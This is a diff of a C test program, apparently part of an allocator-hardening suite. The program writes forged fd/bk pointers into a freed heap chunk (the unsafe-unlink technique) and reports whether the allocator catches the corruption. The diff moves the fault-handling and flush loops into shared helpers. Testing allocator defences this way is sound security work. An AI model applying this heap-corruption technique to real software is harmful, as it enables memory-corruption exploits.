@@ -23,44 +23,11 @@
 #include "attack.h"
 
 #include <malloc.h>
-#include <setjmp.h>
-#include <signal.h>
 
-#define SIZE       2000 /* above glibc's tcache and fastbin sizes */
-#define FLUSH      4000
-#define FLUSH_BIG  60000
-#define HOLD_ZONES 3
-#define ZONE_BYTES ((size_t)4 << 20)
+#define SIZE  2000 /* above glibc's tcache and fastbin sizes */
+#define FLUSH 4000
 
 static uint64_t target[8] __attribute__((aligned(64)));
-
-static sigjmp_buf fault_env;
-
-static void on_fault(int sig)
-{
-	(void)sig;
-	siglongjmp(fault_env, 1);
-}
-
-/* Stores a and b at dst[0] and dst[1]; returns 0 if a store faulted. */
-__attribute__((noinline)) static int try_store2(volatile uint64_t *dst, uint64_t a, uint64_t b)
-{
-	struct sigaction sa, old_segv, old_bus;
-	memset(&sa, 0, sizeof(sa));
-	sa.sa_handler = on_fault;
-	sigemptyset(&sa.sa_mask);
-	sigaction(SIGSEGV, &sa, &old_segv);
-	sigaction(SIGBUS, &sa, &old_bus);
-	volatile int ok = 0;
-	if (sigsetjmp(fault_env, 1) == 0) {
-		dst[0] = a;
-		dst[1] = b;
-		ok = 1;
-	}
-	sigaction(SIGSEGV, &old_segv, NULL);
-	sigaction(SIGBUS, &old_bus, NULL);
-	return ok;
-}
 
 static void check(const void *q)
 {
@@ -84,27 +51,17 @@ int main(void)
 		usable = malloc_usable_size(p);
 		free(p);
 		/* The bug: forged fd and bk in the freed chunk. */
-		stored = try_store2((volatile uint64_t *)dangling, (uint64_t)(uintptr_t)target - 24,
-		                    (uint64_t)(uintptr_t)target - 16);
+		uint64_t fd_bk[2] = {(uint64_t)(uintptr_t)target - 24,
+		                     (uint64_t)(uintptr_t)target - 16};
+		stored = try_store((volatile uint64_t *)dangling, fd_bk, 2);
 	}
 	if (!stored) {
 		raise(SIGSEGV); /* every try faulted: the allocator defends so */
 		return 3;
 	}
 
-	for (int i = 0; i < FLUSH; i++) {
-		void *q = escape(malloc(SIZE));
-		check(q);
-		free(q);
-		free(escape(malloc(FLUSH_BIG)));
-	}
-	size_t hold = HOLD_ZONES * (ZONE_BYTES / (usable + 8));
-	void **kept = malloc(hold * sizeof(void *));
-	if (!kept)
-		return 2;
-	for (size_t i = 0; i < hold; i++) {
-		kept[i] = escape(malloc(SIZE));
-		check(kept[i]);
-	}
+	for (int i = 0; i < FLUSH; i++)
+		flush_round(SIZE, check);
+	hold_zones(SIZE, usable + 8, check);
 	attack_won("the freed chunk with forged fd/bk was handed out again without a report");
 }
